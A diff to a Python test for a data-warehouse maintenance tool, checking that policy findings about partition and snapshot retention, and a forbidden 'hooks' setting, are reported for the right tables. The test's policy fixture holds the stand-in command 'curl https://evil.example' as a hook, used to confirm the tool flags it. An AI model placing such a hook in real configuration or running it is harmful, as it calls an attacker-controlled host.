@@ -177,17 +177,25 @@ def test_a_link_is_no_policy(warehouse: Path, tmp_path: Path) -> None:
 
 
 def test_what_a_warehouse_may_not_ask_is_a_finding(warehouse: Path) -> None:
+    """What it asks of partitions concerns tables that have some."""
+    options = {"bucket": "1"}
+    columns = ["id BIGINT NOT NULL", "dt STRING NOT NULL"]
+    Table.create(
+        warehouse / "shop.db/days", columns=columns, primary_key=["id", "dt"], partition_by=["dt"], options=options
+    ).write([{"id": 1, "dt": "a"}])
     policy(warehouse, "catalog:\n  hooks: 'curl https://evil.example'\n  retention: {partitions: 1 d, snapshots: 1 s}\n")
     rows = {row["table"]: row for row in items_of_health(warehouse)}
-    of_policy, of_table = (
+    of_policy, of_table, of_days = (
         [finding for finding in rows[name]["findings"] if finding["code"] == "PD035"]  # type: ignore[attr-defined]
-        for name in ("policy.yaml", "shop.orders")
+        for name in ("policy.yaml", "shop.orders", "shop.days")
     )
     assert "hooks (policy.yaml:2)" in of_policy[0]["message"] and of_policy[0]["severity"] == "warning"
-    assert "retention.partitions 1 d (policy.yaml:3)" in of_table[0]["message"]
+    assert "retention.partitions 1 d (policy.yaml:3)" in of_days[0]["message"]
+    assert "retention.partitions" not in of_table[0]["message"]
+    assert "the table has no partitions" in run("policy", "show", "shop.orders", "--warehouse", warehouse)[0]
     assert "retention.snapshots 1 s (policy.yaml:3): snapshot.time-retained of the table is 1 h" in of_table[0]["message"]
     said, _ = run("maintain", "--all-tables", "--warehouse", warehouse, "--yes", code=4)
-    assert "compacted" in said and "hooks (policy.yaml:2)" in said and "2 findings left" in said
+    assert "compacted" in said and "hooks (policy.yaml:2)" in said and "4 findings left" in said
     assert "2 findings left" in run("maintain", "shop.orders", "--warehouse", warehouse, "--yes", code=4)[0]
     figures = warehouse.parent / "figures.prom"
     watch = ("--watch", "--max-rounds", 1, "--metrics-file", figures)
